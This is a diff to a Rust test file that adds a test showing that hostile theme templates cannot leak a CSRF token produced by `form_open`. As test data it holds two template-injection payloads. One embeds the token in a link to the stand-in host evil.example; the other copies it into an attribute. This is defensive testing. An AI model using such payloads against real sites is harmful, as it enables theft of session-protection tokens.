@@ -152,6 +152,26 @@ fn a_form_carries_the_token_and_the_context_does_not() {
     assert_eq!(html.matches("t0ken").count(), 1, "{html}");
 }
 
+/// security.md R20: what `form_open` returns is text that a template may look into.
+#[test]
+fn a_theme_that_takes_a_form_apart_finds_no_token() {
+    let brand = Brand::plain();
+    for note in [
+        "{{ form_open('/x') }}</form><a href=\"https://evil.example/?{{ form_open('/x') | replace('<', '-') }}\">a</a><form method=post action=/x></form>",
+        "{{ form_open('/x') }}</form>{% set form = form_open('/x') %}<form method=post></form><p title=\"{{ form[0:999] | upper }}\">",
+    ] {
+        let source = format!(
+            "{{% extends \"default/password.html\" %}}{{% block note %}}{note}{{% endblock %}}"
+        );
+        let own = Templates::load(&Overrides::from_files([("password.html", source)]));
+        let own = own.unwrap_or_else(|errors| panic!("{}", listed(&errors)));
+        let html = own.render(&frame(&brand, Some("t0ken")), &password()).unwrap();
+        let fields = html.matches("name=\"csrf\" value=\"t0ken\"").count();
+        assert_eq!(html.to_lowercase().matches("t0ken").count(), fields, "{html}");
+        assert_eq!(fields, 3, "{html}");
+    }
+}
+
 #[test]
 fn a_page_without_a_token_has_no_form() {
     let error = shipped().render(&frame(&Brand::plain(), None), &password()).unwrap_err();
